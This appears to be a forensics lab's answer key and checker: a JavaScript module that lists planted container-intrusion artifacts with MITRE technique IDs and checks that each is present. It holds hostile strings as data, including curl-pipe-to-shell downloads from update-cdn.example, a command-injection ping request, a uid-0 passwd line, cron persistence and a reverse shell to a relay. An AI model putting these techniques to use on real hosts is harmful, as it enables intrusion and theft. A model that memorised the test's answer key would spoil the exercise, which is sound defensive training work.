// What is planted, where it is to be found, and how to see that it is there. One item a fact that an examiner should
// come to; `check` gives undefined where it is there, else what is wrong.

import {
  api,
  apiJson,
  bytes,
  containerPath,
  descriptor,
  established,
  lab,
  link,
  lstat,
  processes,
  stat,
} from './host.mjs';
import * as hostile from './hostile.mjs';
import { AGENT, EXEC_STAYS, EXEC_WORDS, MIGRATE, NETWORK, ODD, PORT, RELAY, sinkName, VOLUME, WEB } from './stage.mjs';
import { version } from './version.mjs';

/** What the host says now, read once for all items. */
export async function look(host) {
  // The sink may be gone: then what it saw is missing, and the rest can still be looked for.
  const sinkPid = await lab('pid', sinkName(host)).catch(() => undefined);
  const list = await apiJson(host, '/containers/json?all=1');
  const containers = {};
  for (const { Names, Id } of list) containers[Names[0].slice(1)] = await apiJson(host, `/containers/${Id}/json`);
  const all = processes(host);
  const inside = (name) => {
    const first = all.find((one) => one.pid === containers[name]?.State.Pid);
    return first ? all.filter((one) => one.pidns === first.pidns) : [];
  };
  const now = Math.floor(Date.now() / 1000) + 1;
  const events = (await api(host, 'GET', `/events?since=0&until=${now}`)).bytes.toString().split('\n').filter(Boolean);
  return {
    host,
    sinkRoot: sinkPid ? `/proc/${sinkPid}/root` : '/nonexistent',
    containers,
    inside,
    events: events.map((line) => JSON.parse(line)),
  };
}

const container = (seen, name) => {
  const found = seen.containers[name];
  if (!found) throw new Error(`container ${name} is gone`);
  return found;
};
const running = (seen, name) => {
  const { State } = container(seen, name);
  if (!State.Running) throw new Error(`container ${name} does not run (exit ${State.ExitCode})`);
  return State.Pid;
};
const one = (seen, name, test, what) => {
  running(seen, name);
  const found = seen.inside(name).find(test);
  if (!found) throw new Error(`no process ${what} in ${name}`);
  return found;
};
const file = (seen, path, name = WEB) => containerPath(seen.host, running(seen, name), path);
const content = (seen, path, name = WEB) => {
  const data = bytes(file(seen, path, name));
  if (!data) throw new Error(`${path} is not there`);
  return data;
};
const expect = (truth, problem) => {
  if (!truth) throw new Error(problem);
};
const socketTo = (process, fd, remote) =>
  established(process).get(/^socket:\[(\d+)\]$/.exec(descriptor(process, fd))?.[1]) === remote;

async function logOf(seen, name) {
  return (await api(seen.host, 'GET', `/containers/${container(seen, name).Id}/logs?stdout=1&stderr=1`)).bytes;
}
async function change(seen, path, kind, name = WEB) {
  const found = ((await apiJson(seen.host, `/containers/${container(seen, name).Id}/changes`)) ?? []).find(
    (row) => row.Path === path,
  );
  expect(found?.Kind === kind, `the engine does not list ${path} as ${['modified', 'added', 'deleted'][kind]}`);
}
const sinkSaw = (seen, facts, test, what) => {
  const lines = (bytes(`${seen.sinkRoot}/var/log/sink.jsonl`) ?? '')
    .toString()
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line));
  expect(lines.some(test), `${facts.sink.name} saw no ${what}`);
};
/** Whether a text is in a process's readable memory (proc_pid_mem(5)). */
async function inMemory(process, text) {
  const { open } = await import('node:fs/promises');
  const memory = await open(`${process.at}/mem`, 'r');
  try {
    for (const line of (bytes(`${process.at}/maps`) ?? '').toString().split('\n')) {
      const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) r.*(?:\[heap\]|\[stack\]| 0 *)$/.exec(line) ?? [];
      if (!from) continue;
      const start = Number.parseInt(from, 16);
      const size = Number.parseInt(to, 16) - start;
      const part = await memory.read(Buffer.alloc(size), 0, size, start).catch(() => undefined); // a guard page
      if (part?.buffer.subarray(0, part.bytesRead).includes(text)) return true;
    }
  } finally {
    await memory.close();
  }
  return false;
}

const isShell = (p) => p.exe === '/usr/bin/dash';
const find = {
  shell: (seen) => one(seen, WEB, (p) => isShell(p) && p.argv[1]?.endsWith('attack.sh'), 'of the intruder’s shell'),
  reverse: (seen) => one(seen, WEB, (p) => isShell(p) && p.argv[1] === '-i', 'sh -i'),
  deleted: (seen) =>
    one(seen, WEB, (p) => p.exe === '/var/tmp/kdevtmpfsi (deleted)', 'with the deleted /var/tmp/kdevtmpfsi'),
  memfd: (seen) => one(seen, WEB, (p) => p.exe.startsWith('/memfd:'), 'from a memfd'),
  beacon: (seen) => one(seen, WEB, (p) => p.argv[1]?.endsWith('beacon.pl'), 'beacon.pl'),
  secret: (seen) => one(seen, WEB, (p) => p.argv[1]?.endsWith('memory.pl'), 'memory.pl'),
  kept: (seen) => one(seen, AGENT, (p) => p.argv[2] === EXEC_STAYS[2], 'of the exec that stays'),
  odd: (seen) =>
    one(seen, ODD, (p) => p.argv.at(-1) === hostile.HTML && p.argv.length > 4, 'with the hostile command line'),
};

const utf8 = (buffer) => buffer.toString('utf8');

/** All items. `facts` is what stage.mjs's plant gave. */
export function items(facts) {
  const relayIp = (seen) => container(seen, RELAY).NetworkSettings.Networks[NETWORK].IPAddress;
  const env = (seen, name, line) =>
    expect(container(seen, name).Config.Env.includes(line), `no ${line.slice(0, 40)} in the environment`);
  const made = (id, kind, container, techniques, what, where, check, pid) => ({
    id,
    kind,
    container,
    techniques,
    what,
    where,
    check,
    pid,
  });
  const f = (id, path, techniques, what, check, more = {}) =>
    made(id, 'file', WEB, techniques, what, { path, ...more }, check);
  return [
    made(
      'web-shell',
      'process',
      WEB,
      ['T1505.003', 'T1190'],
      'the web service spawned a shell',
      { path: '/usr/bin/dash', string: '/srv/shop/uploads/attack.sh' },
      (s) => {
        const parent = one(s, WEB, (p) => p.pid === find.shell(s).ppid, 'above the shell');
        expect(parent.argv[1] === '/srv/shop/server.pl', 'its parent is not the web service');
      },
      find.shell,
    ),
    made(
      'reverse-shell',
      'process',
      WEB,
      ['T1059.004', 'T1059'],
      'a shell whose descriptors 0, 1, 2 are one TCP connection',
      { remote: `${RELAY}:4444`, path: '/usr/bin/dash' },
      (s) => {
        const shell = find.reverse(s);
        const [first, ...others] = [0, 1, 2].map((fd) => descriptor(shell, fd));
        expect(
          others.every((other) => other === first) && socketTo(shell, 0, `${relayIp(s)}:4444`),
          'its descriptors are not one connection to the relay',
        );
      },
      find.reverse,
    ),
    made(
      'deleted-binary',
      'process',
      WEB,
      ['T1070.004'],
      'a process whose executable was deleted',
      { path: '/var/tmp/kdevtmpfsi' },
      (s) => {
        expect(stat(`${find.deleted(s).at}/exe`)?.nlink === 0, 'its executable still has a name');
      },
      find.deleted,
    ),
    made(
      'miner-arguments',
      'process',
      WEB,
      ['T1496.001', 'T1496'],
      'a command line with a mining pool',
      { string: 'stratum+tcp://pool.update-cdn.example:3333' },
      (s) => {
        expect(
          find.deleted(s).argv.includes('stratum+tcp://pool.update-cdn.example:3333'),
          'no pool in its command line',
        );
      },
      find.deleted,
    ),
    made(
      'memfd-process',
      'process',
      WEB,
      ['T1620'],
      'a process that runs from a memfd',
      { path: '/memfd:update (deleted)' },
      (s) => {
        expect(find.memfd(s).exe.startsWith('/memfd:update'), 'its memfd has another name');
      },
      find.memfd,
    ),
    made(
      'fake-kernel-thread',
      'process',
      WEB,
      ['T1036', 'T1036.004'],
      'a process that calls itself a kernel thread',
      { string: '[kworker/u8:3]' },
      (s) => {
        expect(find.memfd(s).argv[0] === '[kworker/u8:3]', 'it has another name');
      },
      find.memfd,
    ),
    made(
      'memory-only-string',
      'memory',
      WEB,
      [],
      'a text that is in one process’s memory and in no file, argument or environment',
      { string: facts.secret },
      async (s) => {
        expect(await inMemory(find.secret(s), facts.secret), 'the text is not in its memory');
        expect(!lstat(file(s, '/srv/shop/uploads/memory.pl')), 'its script is still a file');
      },
      find.secret,
    ),
    made(
      'established-connection',
      'network',
      WEB,
      ['T1571', 'T1071'],
      'an established TCP connection to a host outside',
      { remote: `${facts.sink.address}:8443`, host: facts.sink.name },
      (s) => {
        const beacon = find.beacon(s);
        expect(
          [3, 4, 5].some((fd) => socketTo(beacon, fd, `${facts.sink.address}:8443`)),
          'no such connection',
        );
      },
      find.beacon,
    ),
    made(
      'dns-lookups',
      'network',
      WEB,
      ['T1071.004'],
      'DNS lookups with data in their names',
      { string: '637573746f6d657273.t.update-cdn.example', host: facts.sink.name },
      (s) =>
        sinkSaw(
          s,
          facts,
          (line) => line.kind === 'dns' && line.name === '637573746f6d657273.t.update-cdn.example',
          'lookup',
        ),
    ),
    made(
      'upload',
      'network',
      WEB,
      ['T1048.003', 'T1048'],
      'the stolen archive was uploaded over HTTP',
      { string: 'PUT /dump-web01.tgz', remote: `${facts.sink.address}:8080`, host: facts.sink.name },
      (s) =>
        sinkSaw(
          s,
          facts,
          (line) => line.kind === 'upload' && line.path === '/dump-web01.tgz' && line.bytes > 100,
          'upload',
        ),
    ),
    made(
      'download',
      'network',
      WEB,
      ['T1105'],
      'the dropper fetched its second stage',
      { path: '/tmp/.ICE-unix/.cache/.s', remote: `${facts.sink.address}:8080`, host: facts.sink.name },
      (s) => {
        sinkSaw(s, facts, (line) => line.kind === 'download' && line.path === '/stage2', 'download');
        expect(utf8(content(s, '/tmp/.ICE-unix/.cache/.s')).includes('second stage'), 'what it fetched is not there');
      },
    ),
    f(
      'dropper',
      '/tmp/.ICE-unix/.cache/.d.sh',
      ['T1564.001', 'T1105'],
      'a dropper in a hidden file under /tmp',
      (s) => expect(utf8(content(s, '/tmp/.ICE-unix/.cache/.d.sh')).includes('/stage2'), 'it holds something else'),
      { string: '/stage2' },
    ),
    f(
      'replaced-binary',
      '/usr/bin/ls',
      ['T1554'],
      'a system binary was replaced by a script that hides files',
      async (s) => {
        expect(utf8(content(s, '/usr/bin/ls')).startsWith('#!/bin/sh'), 'it is no script');
        await change(s, '/usr/bin/ls', 0);
      },
      { string: 'grep -v -e kdevtmpfsi' },
    ),
    f(
      'uid-0-user',
      '/etc/passwd',
      ['T1136.001'],
      'a second user with UID 0',
      (s) => expect(utf8(content(s, '/etc/passwd')).includes('\nsysbackup:x:0:0:'), 'no such line'),
      { string: 'sysbackup:x:0:0::/root:/bin/bash' },
    ),
    f(
      'cron',
      '/etc/cron.d/apt-compat',
      ['T1053.003'],
      'a cron entry that runs the dropper',
      (s) => {
        content(s, '/etc/cron.d/apt-compat');
      },
      { string: '*/5 * * * * root /tmp/.ICE-unix/.cache/.d.sh' },
    ),
    f(
      'authorized-keys',
      '/root/.ssh/authorized_keys',
      ['T1098.004'],
      'a key that lets the intruder in',
      (s) => expect(utf8(content(s, '/root/.ssh/authorized_keys')).includes('ops@update-cdn.example'), 'another key'),
      { string: 'ops@update-cdn.example' },
    ),
    f(
      'ld-so-preload',
      '/etc/ld.so.preload',
      ['T1574.006'],
      'a library that is loaded into every program',
      (s) => {
        expect(utf8(content(s, '/etc/ld.so.preload')) === '/usr/lib/libsysutil.so.1\n', 'it names another library');
        content(s, '/usr/lib/libsysutil.so.1');
      },
      { string: '/usr/lib/libsysutil.so.1' },
    ),
    f(
      'setuid-file',
      '/var/tmp/.dsh',
      ['T1548.001'],
      'a setuid copy of a shell',
      (s) => expect(((lstat(file(s, '/var/tmp/.dsh'))?.mode ?? 0) & 0o4000) !== 0, 'no setuid bit'),
      { mode: '4755' },
    ),
    f(
      'history-wiped',
      '/root/.bash_history',
      ['T1070.003', 'T1070'],
      'the shell history is a link to /dev/null',
      (s) => expect(link(file(s, '/root/.bash_history')) === '/dev/null', 'it is no such link'),
      { string: '/dev/null' },
    ),
    f(
      'timestomped',
      '/usr/local/sbin/logrotate-helper',
      ['T1070.006'],
      'a new file whose mtime was set to 2023',
      (s) => {
        const at = lstat(file(s, '/usr/local/sbin/logrotate-helper'));
        expect(
          at?.mtime.toISOString() === '2023-02-11T04:05:06.000Z' && at.ctime > new Date('2026-01-01'),
          'its times are others',
        );
      },
      { mtime: '2023-02-11T04:05:06.000Z' },
    ),
    f(
      'deleted-log',
      '/var/log/shop/access.log',
      ['T1070.002', 'T1070'],
      'a log of the image was deleted: a whiteout in the upper layer',
      (s) => change(s, '/var/log/shop/access.log', 2),
    ),
    f(
      'uploaded-script',
      '/srv/shop/uploads/attack.sh',
      ['T1190', 'T1505.003'],
      'the intruder’s script, put there through the web service',
      (s) => {
        content(s, '/srv/shop/uploads/attack.sh');
      },
    ),
    f(
      'tmpfs-file',
      '/run/shop/.session',
      [],
      'a file on a tmpfs: in no layer and no export',
      (s) => expect(utf8(content(s, '/run/shop/.session')).includes('0d9f4c2b1e'), 'it holds something else'),
      { string: 'aes key 0d9f4c2b1e' },
    ),
    f(
      'shm-file',
      '/dev/shm/.k',
      ['T1059.004'],
      'a script in shared memory, decoded by the exec',
      (s) =>
        expect(
          utf8(content(s, '/dev/shm/.k')).startsWith('curl http://update-cdn.example/'),
          'it holds something else',
        ),
      { string: 'curl http://update-cdn.example/stage2' },
    ),
    made(
      'stolen-data',
      'volume',
      WEB,
      ['T1074.001', 'T1560'],
      'stolen data, packed in a hidden file of a volume',
      { volume: VOLUME, path: '/var/backups/shop/.dump.tgz', hostPath: `${facts.volume}/.dump.tgz` },
      (s) => expect((lstat(`${s.host.root}${facts.volume}/.dump.tgz`)?.size ?? 0) > 100, 'the volume does not hold it'),
    ),
    made(
      'environment-secret',
      'config',
      WEB,
      ['T1552.001'],
      'secrets in the environment',
      { pointer: '/Config/Env', string: 'AWS_SECRET_ACCESS_KEY=labOnly/wJalrXUtnFEMI/NOTAKEY' },
      (s) => env(s, WEB, 'AWS_SECRET_ACCESS_KEY=labOnly/wJalrXUtnFEMI/NOTAKEY'),
    ),
    made(
      'open-port',
      'config',
      WEB,
      [],
      'a port published on all addresses',
      { pointer: `/HostConfig/PortBindings/${PORT}~1tcp`, string: '0.0.0.0' },
      (s) => expect(container(s, WEB).HostConfig.PortBindings[`${PORT}/tcp`][0].HostIp === '0.0.0.0', 'it is not'),
    ),
    made(
      'privileged',
      'config',
      AGENT,
      ['T1610', 'T1611'],
      'a privileged container',
      { pointer: '/HostConfig/Privileged' },
      (s) => expect(container(s, AGENT).HostConfig.Privileged && running(s, AGENT), 'it is not'),
    ),
    made(
      'engine-socket',
      'config',
      AGENT,
      ['T1611', 'T1609'],
      'the engine’s socket is mounted into a container',
      { pointer: '/HostConfig/Binds', string: '/var/run/docker.sock' },
      (s) => expect(stat(file(s, '/var/run/docker.sock', AGENT))?.isSocket(), 'it is not'),
    ),
    made(
      'host-root-mount',
      'config',
      AGENT,
      ['T1611'],
      'the host’s root is mounted into a container',
      { pointer: '/HostConfig/Binds', string: '/:/host' },
      (s) => {
        content(s, '/host/etc/hostname', AGENT);
      },
    ),
    made(
      'exec-event',
      'event',
      WEB,
      ['T1609'],
      'a command was run through the API; only the engine’s events have its words',
      { string: `exec_create: ${EXEC_WORDS.join(' ')}` },
      (s) =>
        expect(
          s.events.some((event) => event.Action === `exec_create: ${EXEC_WORDS.join(' ')}`),
          'the engine no longer has its event',
        ),
    ),
    made(
      'exec-running',
      'process',
      AGENT,
      ['T1609'],
      'a privileged exec that is still running',
      { string: EXEC_STAYS[2] },
      (s) => {
        find.kept(s);
        expect(container(s, AGENT).ExecIDs?.length > 0, 'the engine lists no exec');
      },
      find.kept,
    ),
    made(
      'web-log',
      'log',
      WEB,
      ['T1190'],
      'the service’s log has the intruder’s request',
      { string: '/ping?host=;exec sh /srv/shop/uploads/attack.sh' },
      async (s) =>
        expect(
          (await logOf(s, WEB)).includes(`/ping?host=;exec sh /srv/shop/uploads/attack.sh ${RELAY}`),
          'it does not',
        ),
    ),
    made(
      'hostile-agent',
      'log',
      WEB,
      [],
      'a log line with escape sequences, sent as a User-Agent',
      { string: hostile.ESCAPES },
      async (s) => {
        const log = await logOf(s, WEB);
        for (const text of [hostile.ESCAPES, hostile.HTML, hostile.BIDI])
          expect(log.includes(text), 'a hostile line is missing');
      },
    ),
    made(
      'relay-log',
      'log',
      RELAY,
      ['T1059.004', 'T1059'],
      'what the intruder’s shell answered is in the relay’s log',
      { string: 'uid=0(root)' },
      async (s) => expect((await logOf(s, RELAY)).includes('uid=0(root)'), 'it is not'),
    ),
    made(
      'stopped-container',
      'config',
      MIGRATE,
      [],
      'a stopped container with exit status 3 and its log',
      { pointer: '/State/ExitCode', string: 'error: connection reset' },
      async (s) => {
        const { Running, ExitCode } = container(s, MIGRATE).State;
        expect(
          !Running && ExitCode === 3 && (await logOf(s, MIGRATE)).includes('error: connection reset'),
          'its state or log is another',
        );
      },
    ),
    made(
      'stopped-loot',
      'file',
      MIGRATE,
      ['T1003.008'],
      'a file in a stopped container',
      { path: '/root/loot.txt' },
      (s) => change(s, '/root/loot.txt', 1, MIGRATE),
    ),
    made(
      'image-layers',
      'image',
      WEB,
      [],
      'an image of four layers',
      { image: 'shop/web:1.4.2', layers: facts.webLayers },
      async (s) => {
        const found = (await apiJson(s.host, '/images/shop/web:1.4.2/json')).RootFS.Layers;
        expect(JSON.stringify(found) === JSON.stringify(facts.webLayers), 'it has other layers');
      },
    ),
    made(
      'image-secret',
      'image',
      WEB,
      ['T1552.001'],
      'a secret in a lower layer that a later layer removed',
      {
        image: 'shop/web:1.4.2',
        layer: facts.webLayers[1],
        path: '/srv/shop/.env',
        string: 'sk_live_51LabOnlyNotAKey',
      },
      (s) => expect(!lstat(file(s, '/srv/shop/.env')), 'the container still shows it'),
    ),
    made(
      'image-history',
      'image',
      WEB,
      ['T1105'],
      'a build step that pipes a download into a shell',
      { image: 'shop/web:1.4.2', string: 'curl -fsSL http://update-cdn.example/setup.sh | sh' },
      async (s) =>
        expect(
          (await apiJson(s.host, '/images/shop/web:1.4.2/history')).some((step) =>
            step.CreatedBy.includes('setup.sh | sh'),
          ),
          'no such step',
        ),
    ),
    made('hostile-name', 'hostile', ODD, [], 'a container name of 194 characters', { string: ODD }, (s) => {
      container(s, ODD);
    }),
    made(
      'hostile-labels',
      'hostile',
      ODD,
      [],
      'labels with escape sequences, bidirectional overrides, HTML, 10,000 characters',
      { pointer: '/Config/Labels', values: ['odd.escapes', 'odd.bidi', 'odd.html', 'odd.long'] },
      (s) => {
        const { Labels } = container(s, ODD).Config;
        for (const [key, text] of Object.entries({
          'odd.escapes': hostile.ESCAPES,
          'odd.bidi': hostile.BIDI,
          'odd.html': hostile.HTML,
          'odd.long': hostile.LONG,
        })) {
          expect(Labels[key] === text, `label ${key} is another`);
        }
      },
    ),
    made(
      'hostile-environment',
      'hostile',
      ODD,
      [],
      'environment with the same',
      { pointer: '/Config/Env', values: ['ODD_ESCAPES', 'ODD_BIDI', 'ODD_HTML', 'ODD_FORGED', 'ODD_LONG'] },
      (s) => {
        env(s, ODD, `ODD_ESCAPES=${hostile.ESCAPES}`);
        env(s, ODD, `ODD_LONG=${hostile.LONG}`);
      },
    ),
    made(
      'hostile-log',
      'hostile',
      ODD,
      [],
      'log lines with the same, broken UTF-8, and one of 40,000 characters',
      { string: hostile.SHELL, longestLine: 40_000 },
      async (s) => {
        const log = await logOf(s, ODD);
        // The json-file driver itself turns what is no UTF-8 into U+FFFD and splits at 16 KiB.
        for (const text of [hostile.ESCAPES, hostile.HTML, hostile.SHELL, hostile.LONG, 'W'.repeat(16_000)])
          expect(log.includes(text), `no line ${JSON.stringify(text.slice(0, 30))}`);
      },
    ),
    made(
      'hostile-files',
      'hostile',
      ODD,
      [],
      'file names with the same, broken UTF-8, line feeds, backslashes, 255 bytes',
      { path: '/data/odd', namesHex: hostile.FILE_NAMES.map((name) => name.toString('hex')) },
      async (s) => {
        const { readdirSync } = await import('node:fs');
        const there = readdirSync(file(s, '/data/odd', ODD), { encoding: 'buffer' }).map((name) =>
          name.toString('hex'),
        );
        for (const name of hostile.FILE_NAMES)
          expect(
            there.includes(name.toString('hex')),
            `no file ${JSON.stringify(name.toString('latin1').slice(0, 30))}`,
          );
      },
    ),
    made(
      'hostile-process',
      'hostile',
      ODD,
      [],
      'a command line with escape sequences, HTML and broken UTF-8',
      { argvHex: hostile.BROKEN.toString('hex') },
      (s) =>
        expect(
          find.odd(s).argv.some((word) => Buffer.from(word, 'latin1').includes(hostile.BROKEN)),
          'its bytes are others',
        ),
      find.odd,
    ),
  ];
}

/** Where the host keeps it: a container's log, or a file of its upper layer where inspect tells that (classic store). */
function hostPath(seen, item) {
  const { LogPath, GraphDriver } = container(seen, item.container);
  if (item.kind === 'log') return LogPath;
  const upper = GraphDriver?.Data?.UpperDir;
  return item.kind === 'file' && upper && !/^\/(dev|run)\//.test(item.where.path)
    ? `${upper}${item.where.path}`
    : undefined;
}

/** The machine-readable list: each item with where it is now (container id, path and PID on the host, PID in the container). */
export function truthOf(host, seen, facts) {
  const found = ([name, id]) => [
    name,
    { id, image: container(seen, name).Config.Image, running: container(seen, name).State.Running },
  ];
  return {
    format: 1,
    version: version(),
    host: { name: host.name, address: host.address },
    staged: new Date().toISOString(),
    containers: Object.fromEntries(Object.entries(facts.ids).map(found)),
    volume: VOLUME,
    network: NETWORK,
    facts,
    items: items(facts).map(({ check: _, pid, ...item }) => {
      const process = pid?.(seen);
      const path = hostPath(seen, item);
      const where = {
        ...item.where,
        ...(path && { hostPath: path }),
        ...(process && { pid: process.pid, pidInContainer: process.nspid }),
      };
      return { ...item, containerId: facts.ids[item.container], where };
    }),
  };
}

/** Looks for each item. Gives [{ id, ok, problem? }] in their order. */
export async function checkAll(seen, facts) {
  const results = [];
  for (const item of items(facts)) {
    try {
      const { ids } = facts;
      expect(
        seen.containers[item.container]?.Id === ids[item.container],
        `container ${item.container} is gone or another`,
      );
      await item.check(seen);
      results.push({ id: item.id, ok: true });
    } catch (error) {
      results.push({ id: item.id, ok: false, problem: error.message });
    }
  }
  return results;
}
